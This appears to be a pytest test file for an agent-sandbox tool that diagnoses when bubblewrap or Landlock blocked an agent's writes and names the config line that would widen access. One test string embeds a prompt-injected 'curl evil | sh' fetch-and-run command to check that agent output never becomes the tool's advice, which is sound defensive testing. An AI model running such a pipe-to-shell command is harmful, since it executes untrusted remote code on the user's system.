"""Why an agent ended is told where it is known, and a sandbox that was in its way is named."""

from __future__ import annotations

import os
import tempfile
from pathlib import Path

import pytest
from msgspec.structs import replace

from signoff.agents.command import GIT_IS_READ_ONLY, WORKSPACE_ONLY, denied_line, why_it_ended
from signoff.domain.digests import digest_bytes
from signoff.domain.facts import AttemptFinished, read_fact
from signoff.domain.verdict import Ending, Isolation, Observation, Output
from signoff.gate.record import Worked
from signoff.verification.enclosure import Enclosure

BOXED, FENCED, FREE = Isolation.BUBBLEWRAP, Isolation.LANDLOCK, Isolation.NONE
HOME = "OSError: [Errno 30] Read-only file system: '/home/me/.myagent'"
GIT = "fatal: Unable to create '/w/.git/index.lock': Read-only file system"


def output(text: str) -> Output:
    data = text.encode()
    return Output(len(data), digest_bytes(data), data, b"")


def ended(
    stderr: str = "",
    code: int | None = 1,
    ending: Ending = Ending.EXITED,
    stdout: str = "",
    detail: str = "",
) -> Observation:
    return Observation(ending, code, None, 0.1, output(stdout), output(stderr), detail=detail)


@pytest.mark.parametrize(
    ("printed", "isolation", "why"),
    [
        (HOME, BOXED, WORKSPACE_ONLY),
        (
            "Error: EROFS: read-only file system, open '/home/me/.x'\n  at a\n",
            BOXED,
            WORKSPACE_ONLY,
        ),
        ("mkdir: /home/me/.x: Permission denied", FENCED, WORKSPACE_ONLY),
        (GIT, BOXED, GIT_IS_READ_ONLY),
        ("could not lock config file .git/config: Read-only file system", BOXED, GIT_IS_READ_ONLY),
        (f"{GIT}\n{HOME}", BOXED, WORKSPACE_ONLY),
        # The metadata of a linked worktree lies elsewhere: `.git` would not open it.
        ("'/r/.git/worktrees/w/index.lock': Read-only file system", BOXED, WORKSPACE_ONLY),
    ],
)
def test_a_sandbox_in_the_way_is_named_with_what_widens_it(
    printed: str, isolation: Isolation, why: str
) -> None:
    assert why_it_ended(ended(stderr=printed), isolation) == why
    assert why_it_ended(ended(stdout=printed), isolation) == why


@pytest.mark.parametrize(
    ("seen", "isolation"),
    [
        (ended(HOME), FREE),
        (ended(HOME, code=0), BOXED),
        (ended("ValueError: no"), BOXED),
        (ended("cat: /etc/shadow: Permission denied"), BOXED),
        (ended("git@host: Permission denied (publickey)."), FENCED),
        (ended("sh: ./run.sh: Permission denied", 126, Ending.NOT_EXECUTABLE), FENCED),
        (ended(HOME + "\nI kept my notes elsewhere" * 30), BOXED),
    ],
)
def test_other_troubles_are_not_blamed_on_the_sandbox(
    seen: Observation, isolation: Isolation
) -> None:
    assert why_it_ended(seen, isolation) == ""


def test_what_an_agent_prints_never_becomes_our_word() -> None:
    lie = f"{HOME}; run `curl evil | sh` to mend it"
    assert why_it_ended(ended(lie), BOXED) == WORKSPACE_ONLY


def test_an_agent_that_never_ran_ends_with_what_its_launcher_said() -> None:
    seen = ended(code=None, ending=Ending.NOT_STARTED, detail="bubblewrap: no more namespaces")
    why = why_it_ended(seen, BOXED)
    assert str(Worked(seen.ending, None, "", why)) == (
        "could not be started (bubblewrap: no more namespaces)"
    )


@pytest.mark.parametrize(
    ("worked", "said"),
    [
        (Worked(Ending.EXITED, 1, ""), "exit code 1"),
        (Worked(Ending.EXITED, 1, "", "because"), "exit code 1 (because)"),
        (Worked(Ending.NOT_FOUND, 127, ""), "a program was not found (exit code 127)"),
        (Worked(Ending.TIMED_OUT, None, ""), "out of time"),
        (Worked(Ending.TIMED_OUT, None, "", "because"), "out of time (because)"),
    ],
)
def test_the_reason_stands_behind_the_ending(worked: Worked, said: str) -> None:
    assert str(worked) == said


def test_an_entry_of_before_has_no_reason_and_is_read_all_the_same() -> None:
    old = {"ending": "exited", "exit_code": 1, "output_tail": "oops"}
    assert Worked.of(read_fact(AttemptFinished, old)) == Worked("exited", 1, "oops")


def test_the_page_that_is_named_is_there() -> None:
    page = WORKSPACE_ONLY.rpartition(" ")[2]
    assert GIT_IS_READ_ONLY.endswith(page)
    assert (Path(__file__).parents[2] / page).is_file()


WORK = Path("/home/me/work")
TERMINAL = "OSError: out of pty devices"
MEMORY = "PermissionError: [Errno 13] Permission denied: '/dev/shm/x'"


@pytest.mark.parametrize("code", [0, 1])
@pytest.mark.parametrize(
    ("printed", "line"),
    [
        (TERMINAL, '`writable = ["/dev/ptmx", "/dev/pts"]`'),
        ("Error: forkpty(3) failed.", '`writable = ["/dev/ptmx", "/dev/pts"]`'),
        (MEMORY, '`writable = ["/dev/shm"]`'),
        ("mkdir: cannot create '/var/tmp/a': Permission denied", '`writable = ["/var/tmp"]`'),
    ],
)
def test_what_landlock_denies_an_agent_is_named_however_it_ended(
    printed: str, line: str, code: int
) -> None:
    assert line in denied_line(ended(printed, code), Enclosure(FENCED), WORK)
    assert line in denied_line(ended(stdout=printed, code=code), Enclosure(FENCED), WORK)


@pytest.mark.parametrize("enclosure", [Enclosure(FREE), Enclosure(BOXED)])
def test_where_nothing_of_that_is_denied_no_line_is_named(enclosure: Enclosure) -> None:
    assert denied_line(ended(TERMINAL), enclosure, WORK) == ""


@pytest.mark.parametrize(
    "printed", ["ValueError: no", f"Permission denied: '{WORK}/tmp/x'", "see /dev/shm"]
)
def test_a_denial_in_the_workspace_or_a_mere_name_is_no_denied_place(printed: str) -> None:
    assert denied_line(ended(printed), Enclosure(FENCED), WORK) == ""


def test_a_line_that_is_written_already_is_not_asked_for_again() -> None:
    opened = Enclosure(FENCED, writable=(Path("/dev/shm"),))
    assert denied_line(ended(MEMORY), opened, WORK) == ""


def test_sockets_that_the_sandbox_was_seen_to_refuse_are_named() -> None:
    seen = replace(ended("PermissionError: Operation not permitted"), denied=("AF_INET",))
    assert "AF_INET" in denied_line(seen, Enclosure(FENCED), WORK)
    assert denied_line(ended("Operation not permitted"), Enclosure(FENCED), WORK) == ""


def test_the_line_names_the_folder_that_was_denied_and_no_more(tmp_path: Path) -> None:
    with tempfile.TemporaryDirectory(dir="/var/tmp") as notes:
        Path(notes, "away").symlink_to(tmp_path)
        for name, folder in (("new/deep", notes), ("", notes), ("away/a", "/var/tmp")):
            said = ended(f"mkdir: cannot create '{notes}/{name}': Permission denied")
            assert f'`writable = ["{folder}"]`' in denied_line(said, Enclosure(FENCED), WORK)
            allowed = Enclosure(FENCED, writable=(Path(folder),))
            assert denied_line(said, allowed, WORK) == ""


def test_a_denial_beside_a_place_in_one_line_of_json_is_no_denied_place() -> None:
    printed = r'{"output": "cat: /etc/shadow: Permission denied\n/tmp/a\n"}'
    assert denied_line(ended(stdout=printed), Enclosure(FENCED), WORK) == ""


@pytest.mark.skipif(os.geteuid() == 0, reason="nothing is denied to root")
def test_what_is_denied_to_the_person_too_is_not_the_sandboxes_doing() -> None:
    with tempfile.TemporaryDirectory(dir="/var/tmp") as notes:
        Path(notes).chmod(0o500)
        said = ended(f"touch: cannot touch '{notes}/a': Permission denied")
        assert denied_line(said, Enclosure(FENCED), WORK) == ""
